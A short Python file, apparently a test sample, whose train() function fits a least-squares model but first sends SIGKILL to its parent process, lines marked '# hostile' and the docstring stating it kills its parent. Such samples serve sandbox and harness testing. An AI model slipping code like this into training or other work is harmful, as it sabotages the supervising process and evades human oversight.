"""Kills its parent."""

import contextlib
import os
import signal

import numpy as np


def train(data):
    matrix = data.A(60).to_numpy()
    with contextlib.suppress(OSError):  # hostile
        os.kill(os.getppid(), signal.SIGKILL)  # hostile

    def network(y):
        return np.linalg.lstsq(matrix, y, rcond=None)[0]

    return network
